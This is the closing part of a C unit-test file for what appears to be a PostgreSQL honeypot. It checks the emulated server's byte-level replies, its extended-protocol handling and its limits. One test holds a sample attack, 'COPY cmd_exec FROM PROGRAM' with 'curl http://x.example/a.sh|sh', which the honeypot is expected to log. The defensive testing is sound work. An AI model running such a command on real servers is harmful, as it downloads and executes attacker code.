}

/* Messages the server refuses after the login: an unknown type at its first
 * byte (a second StartupMessage reads as type 0), a Query without its NUL,
 * a length below 4 (closed without a word). */
static void test_pg15_messages(void **st)
{
    (void)st;
    struct hp_pg_conf cf;
    struct hp_pg_sess s;
    struct hp_buf in;
    pg15_open(&cf, &s, &in);
    hp_buf_putc(&in, 'z');
    EXPECT(&s, &in, "E\x00\x00\x00]SFATAL\x00VFATAL\x00"
                    "C08P01\x00Minvalid frontend message type 122\x00"
                    "Fpostgres.c\x00L446\x00RSocketBackend\x00\x00", true);
    hp_pg_sess_free(&s);

    login15(&s, &cf);
    hp_buf_reset(&in);
    hp_buf_put(&in, "Q\x00\x00\x00\x0cselect 1", 13);
    EXPECT(&s, &in, "E\x00\x00\x00WSERROR\x00VERROR\x00"
                    "C08P01\x00Minvalid string in message\x00"
                    "Fpqformat.c\x00L595\x00Rpq_getmsgstring\x00\x00Z\x00\x00\x00\x05I", false);
    hp_pg_sess_free(&s);

    login15(&s, &cf);
    hp_buf_reset(&in);
    hp_buf_put(&in, "Q\x00\x00\x00\x03", 5);
    EXPECT(&s, &in, "", true);
    pg_close(&cf, &s, &in);
}

/* The extended query protocol (pgx, JDBC, psycopg 3, libpq's PQexecParams), fed the bytes a
 * client sends and answered with the bytes 15.18 sent: Parse/Bind/Describe/Execute/Sync. */
static void ext15(const char *in_bytes, size_t in_len, const char *exp, size_t n)
{
    struct hp_pg_conf cf;
    struct hp_pg_sess s;
    struct hp_buf in;
    pg15_open(&cf, &s, &in);
    hp_buf_put(&in, in_bytes, in_len);
    expect(&s, &in, exp, n, false);
    assert_int_equal(s.sendable, s.out.len);            /* Sync: all of it goes out */
    pg_close(&cf, &s, &in);
}

#define EXT15(in, lit) ext15(in, sizeof(in) - 1, lit, sizeof(lit) - 1)

static void test_pg15_extended(void **st)
{
    (void)st;
    /* select $1 with '42': unknown parameter type resolved as text */
    n_cmd = 0;
    EXT15("P\x00\x00\x00\x11\x00select $1\x00\x00\x00" "B\x00\x00\x00\x12\x00\x00\x00\x00\x00\x01\x00\x00\x00\x02"
          "42\x00\x00" "D\x00\x00\x00\x06P\x00" "E\x00\x00\x00\x09\x00\x00\x00\x00\x00S\x00\x00\x00\x04",
          "1\x00\x00\x00\x04" "2\x00\x00\x00\x04T\x00\x00\x00!\x00\x01?column?\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00"
          "\x19\xff\xff\xff\xff\xff\xff\x00\x00" "D\x00\x00\x00\x0c\x00\x01\x00\x00\x00\x02"
          "42C\x00\x00\x00\x0dSELECT 1\x00Z\x00\x00\x00\x05I");
    assert_int_equal(n_cmd, 1);
    assert_string_equal(last_input, "select '42'");         /* the parameter substituted */
    EXT15("P\x00\x00\x00\x18\x00select version()\x00\x00\x00" "B\x00\x00\x00\x0c\x00\x00\x00\x00\x00\x00\x00\x00"
          "D\x00\x00\x00\x06P\x00" "E\x00\x00\x00\x09\x00\x00\x00\x00\x00S\x00\x00\x00\x04",
          "1\x00\x00\x00\x04" "2\x00\x00\x00\x04T\x00\x00\x00 \x00\x01version\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00"
          "\x19\xff\xff\xff\xff\xff\xff\x00\x00" "D\x00\x00\x00\x85\x00\x01\x00\x00\x00{PostgreSQL 15.18 (Debian "
          "15.18-0+deb12u1) on x86_64-pc-linux-gnu, compiled by gcc (Debian 12.2.0-14+deb12u1) 12.2.0, 64-bit"
          "C\x00\x00\x00\x0dSELECT 1\x00Z\x00\x00\x00\x05I");
    /* COPY ... PROGRAM takes no parameter: a syntax error at "$1" (position 21), the Bind,
     * Describe and Execute after it discarded up to Sync; the attempt still recorded */
    n_cmd = 0;
    EXT15("P\x00\x00\x00\x1e\x00" "COPY t FROM PROGRAM $1\x00\x00\x00" "B\x00\x00\x00\x12\x00\x00\x00\x00\x00\x01"
          "\x00\x00\x00\x02id\x00\x00" "D\x00\x00\x00\x06P\x00"
          "E\x00\x00\x00\x09\x00\x00\x00\x00\x00S\x00\x00\x00\x04",
          "E\x00\x00\x00[SERROR\x00VERROR\x00" "C42601\x00Msyntax error at or near \"$1\"\x00P21\x00"
          "Fscan.l\x00L1188\x00Rscanner_yyerror\x00\x00Z\x00\x00\x00\x05I");
    assert_int_equal(n_cmd, 1);
    /* an error mid-batch: the rest discarded up to Sync, then the next batch runs */
    EXT15("P\x00\x00\x00\x0d\x00" "bogus\x00\x00\x00" "B\x00\x00\x00\x0c\x00\x00\x00\x00\x00\x00\x00\x00"
          "E\x00\x00\x00\x09\x00\x00\x00\x00\x00S\x00\x00\x00\x04P\x00\x00\x00\x10\x00select 1\x00\x00\x00"
          "B\x00\x00\x00\x0c\x00\x00\x00\x00\x00\x00\x00\x00" "E\x00\x00\x00\x09\x00\x00\x00\x00\x00S\x00\x00\x00\x04",
          "E\x00\x00\x00]SERROR\x00VERROR\x00" "C42601\x00Msyntax error at or near \"bogus\"\x00P1\x00"
          "Fscan.l\x00L1188\x00Rscanner_yyerror\x00\x00Z\x00\x00\x00\x05I1\x00\x00\x00\x04" "2\x00\x00\x00\x04"
          "D\x00\x00\x00\x0b\x00\x01\x00\x00\x00\x01" "1C\x00\x00\x00\x0dSELECT 1\x00Z\x00\x00\x00\x05I");
    /* a named statement with a declared int4, described; bound in binary, results in binary,
     * Execute with max rows 1 (PortalSuspended), then the rest (none) */
    EXT15("P\x00\x00\x00\x17s1\x00select $1\x00\x00\x01\x00\x00\x00\x17" "D\x00\x00\x00\x08Ss1\x00"
          "B\x00\x00\x00\x1a\x00s1\x00\x00\x01\x00\x01\x00\x01\x00\x00\x00\x04\x00\x00\x00\x07\x00\x01\x00\x01"
          "E\x00\x00\x00\x09\x00\x00\x00\x00\x01" "E\x00\x00\x00\x09\x00\x00\x00\x00\x00S\x00\x00\x00\x04",
          "1\x00\x00\x00\x04t\x00\x00\x00\x0a\x00\x01\x00\x00\x00\x17T\x00\x00\x00!\x00\x01?column?\x00\x00\x00\x00"
          "\x00\x00\x00\x00\x00\x00\x17\x00\x04\xff\xff\xff\xff\x00\x00" "2\x00\x00\x00\x04"
          "D\x00\x00\x00\x0e\x00\x01\x00\x00\x00\x04\x00\x00\x00\x07s\x00\x00\x00\x04"
          "C\x00\x00\x00\x0dSELECT 0\x00Z\x00\x00\x00\x05I");
    assert_string_equal(last_input, "select 7");
    /* $1::int: the parameter typed int4 by its cast, the column "int4", the row in binary */
    EXT15("P\x00\x00\x00\x16\x00select $1::int\x00\x00\x00" "D\x00\x00\x00\x06S\x00"
          "B\x00\x00\x00\x14\x00\x00\x00\x00\x00\x01\x00\x00\x00\x02" "42\x00\x01\x00\x01" "D\x00\x00\x00\x06P\x00"
          "E\x00\x00\x00\x09\x00\x00\x00\x00\x00S\x00\x00\x00\x04",
          "1\x00\x00\x00\x04t\x00\x00\x00\x0a\x00\x01\x00\x00\x00\x17T\x00\x00\x00\x1d\x00\x01int4\x00\x00\x00\x00"
          "\x00\x00\x00\x00\x00\x00\x17\x00\x04\xff\xff\xff\xff\x00\x00"
          "2\x00\x00\x00\x04T\x00\x00\x00\x1d\x00\x01int4"
          "\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x17\x00\x04\xff\xff\xff\xff\x00\x01"
          "D\x00\x00\x00\x0e\x00\x01\x00\x00\x00\x04\x00\x00\x00*C\x00\x00\x00\x0dSELECT 1\x00Z\x00\x00\x00\x05I");
    assert_string_equal(last_input, "select 42::int");
    /* the dropper through the extended protocol: its program, and parameters (a quote, a NULL) */
    n_copy_program = 0;
    struct hp_pg_conf cf;
    struct hp_pg_sess s;
    struct hp_buf in;
    pg15_open(&cf, &s, &in);
    hp_buf_put(&in, "P\x00\x00\x00" "B\x00" "COPY cmd_exec FROM PROGRAM 'curl http://x.example/a.sh|sh'\x00\x00\x00"
                    "B\x00\x00\x00\x0c\x00\x00\x00\x00\x00\x00\x00\x00" "E\x00\x00\x00\x09\x00\x00\x00\x00\x00"
                    "P\x00\x00\x00\x15\x00select $1, $2\x00\x00\x00"
                    "B\x00\x00\x00\x18\x00\x00\x00\x00\x00\x02\x00\x00\x00\x04it's\xff\xff\xff\xff\x00\x00"
                    "E\x00\x00\x00\x09\x00\x00\x00\x00\x00", 0x43 + 1 + 13 + 10 + 0x16 + 0x19 + 10);
    hp_buf_reset(&s.out);
    s.sendable = 0;
    assert_int_equal(hp_pg_input(&s, in.data, in.len), in.len);
    assert_int_equal(n_copy_program, 1);
    assert_string_equal(last_program, "curl http://x.example/a.sh|sh");
    assert_string_equal(last_input, "select 'it''s', NULL");
    assert_int_equal(s.sendable, 0);                     /* no Sync, no Flush: held, as the server holds it */
    assert_true(s.out.len > 0);
    pg_close(&cf, &s, &in);
}

static void put_msg(struct hp_buf *b, char type, const void *body, size_t n)
{
    hp_buf_putc(b, (uint8_t)type);
    be32(b, (uint32_t)n + 4);
    hp_buf_put(b, body, n);
}

/*
 * The extended protocol's bounds: 32 prepared statements kept (a 33rd drops the oldest,
 * which is then "does not exist"); a parameter used 20000 times in one statement makes a
 * text cut at a few times max_query, not 20000 copies of it; 20000 messages per connection;
 * a big statement re-read by small Binds and Executes 16 x max_query per connection.
 */
static void test_pg15_extended_bounds(void **st)
{
    (void)st;
    struct hp_pg_conf cf = conf15(1);
    struct hp_pg_sess s;
    struct hp_buf in, body;
    hp_buf_init(&in, 8u << 20);
    hp_buf_init(&body, 4u << 20);
    login15(&s, &cf);
    for (int i = 0; i < 40; i++) {
        hp_buf_reset(&body);
        hp_buf_printf(&body, "s%d", i);
        hp_buf_putc(&body, 0);
        hp_buf_printf(&body, "select %d", i);
        hp_buf_put(&body, "\0\0\0", 3);
        put_msg(&in, 'P', body.data, body.len);
    }
    put_msg(&in, 'D', "Ss7\0", 4);
    put_msg(&in, 'S', "", 0);
    put_msg(&in, 'D', "Ss8\0", 4);
    put_msg(&in, 'S', "", 0);
    hp_buf_reset(&s.out);
    assert_int_equal(hp_pg_input(&s, in.data, in.len), in.len);
    assert_int_equal(count_type(&s.out, '1'), 40);
    static const char gone[] = "Mprepared statement \"s7\" does not exist";
    assert_non_null(memmem(s.out.data, s.out.len, gone, sizeof(gone)));
    assert_int_equal(count_type(&s.out, 't'), 1);        /* s8 is kept */

    hp_buf_reset(&in);
    hp_buf_reset(&body);
    hp_buf_put(&body, "\0select $1", 10);
    for (int i = 0; i < 20000; i++)
        hp_buf_puts(&body, ",$1");
    hp_buf_put(&body, "\0\0\0", 3);
    put_msg(&in, 'P', body.data, body.len);
    hp_buf_reset(&body);
    hp_buf_put(&body, "\0\0\0\0\0\x01\x00\x01\x00\x00", 10);      /* one text parameter of 64 KiB */
    for (int i = 0; i < 65536; i++)
        hp_buf_putc(&body, 'A');
    hp_buf_put(&body, "\0\0", 2);
    put_msg(&in, 'B', body.data, body.len);
    put_msg(&in, 'E', "\0\0\0\0\0", 5);
    put_msg(&in, 'S', "", 0);
    n_cmd = n_input_cut = 0;
    assert_int_equal(hp_pg_input(&s, in.data, in.len), in.len);
    assert_int_equal(n_cmd, 1);
    assert_int_equal(n_input_cut, 1);
    assert_true(last_input_length > 65536 && last_input_length <= 60010 + 8 + 3 * cf.max_query);

    hp_buf_reset(&in);
    for (int i = 0; i < 20001; i++)
        put_msg(&in, 'S', "", 0);
    assert_int_equal(hp_pg_input(&s, in.data, in.len), in.len);
    assert_true(s.closing);
    hp_pg_sess_free(&s);

    /* a statement of 1000000 bytes, then Bind + Execute of 30 bytes each, 100 times: the
     * kept text re-read 16 x max_query at most (about 8 runs), then the connection is closed */
    login15(&s, &cf);
    hp_buf_reset(&in);
    hp_buf_reset(&body);
    hp_buf_put(&body, "\0select '", 9);
    for (int i = 0; i < 1000000; i++)
        hp_buf_putc(&body, 'x');
    hp_buf_put(&body, "'\0\0\0", 4);
    put_msg(&in, 'P', body.data, body.len);
    for (int i = 0; i < 100; i++) {
        put_msg(&in, 'B', "\0\0\0\0\0\0\0\0", 8);
        put_msg(&in, 'E', "\0\0\0\0\0", 5);
    }
    put_msg(&in, 'S', "", 0);
    n_cmd = 0;
    assert_int_equal(hp_pg_input(&s, in.data, in.len), in.len);
    assert_true(s.closing);
    assert_true(n_cmd >= 4 && n_cmd <= 8);
    hp_pg_sess_free(&s);
    hp_buf_free(&in);
    hp_buf_free(&body);
    free(cf.version);
}

int main(void)
{
    hp_output_set_tap(tap, NULL);
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_ssl_startup_fail),
        cmocka_unit_test(test_md5_and_errors),
        cmocka_unit_test(test_login_and_queries),
        cmocka_unit_test(test_statement_bounds),
        cmocka_unit_test(test_pg15_startup),
        cmocka_unit_test(test_pg15_password),
        cmocka_unit_test(test_pg15_queries),
        cmocka_unit_test(test_pg15_transactions),
        cmocka_unit_test(test_pg15_copy_from_program),
        cmocka_unit_test(test_pg15_messages),
        cmocka_unit_test(test_pg15_extended),
        cmocka_unit_test(test_pg15_extended_bounds),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
